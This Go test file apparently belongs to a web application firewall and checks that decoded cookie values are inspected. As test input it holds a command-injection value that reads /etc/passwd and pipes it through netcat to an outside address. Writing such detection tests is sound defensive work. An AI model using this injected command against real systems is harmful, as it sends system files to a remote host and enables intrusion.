package waf_test

import (
	"testing"

	"github.com/merlon-security/merlon/internal/event"
	"github.com/merlon-security/merlon/internal/verdict"
	"github.com/merlon-security/merlon/policy/rules"
	"github.com/merlon-security/merlon/policy/waf"
)

// What libraries undo in a cookie stands in no header: rules that do not undo it
// themselves would not see it.
func TestDecodedCookiesAreInspected(t *testing.T) {
	t.Parallel()
	e, err := waf.New(waf.Options{Rules: rules.Options{Paranoia: 1, Threshold: 5}})
	if err != nil {
		t.Fatal(err)
	}
	ev := event.Decode([]byte(`{"version":"2.0","rawPath":"/","headers":{"cookie":"a=b; c=d"},"requestContext":{"http":{"method":"GET","path":"/"}}}`), nil, event.DefaultLimits())
	if in, err := e.Inspect(t.Context(), ev); err != nil || len(in.Findings) > 0 {
		t.Fatalf("as sent: %v, %v", in.Findings, err)
	}
	ev.Leaves = append(ev.Leaves, event.Leaf{Name: "c", Value: `x; cat /etc/passwd | nc 10.0.0.1 99`, Place: verdict.PlaceCookie, Record: -1})
	in, err := e.Inspect(t.Context(), ev)
	if err != nil || len(in.Findings) == 0 || in.Findings[0].Place != verdict.PlaceCookie {
		t.Errorf("decoded: %+v, %v, want a finding in the cookie", in.Findings, err)
	}
}
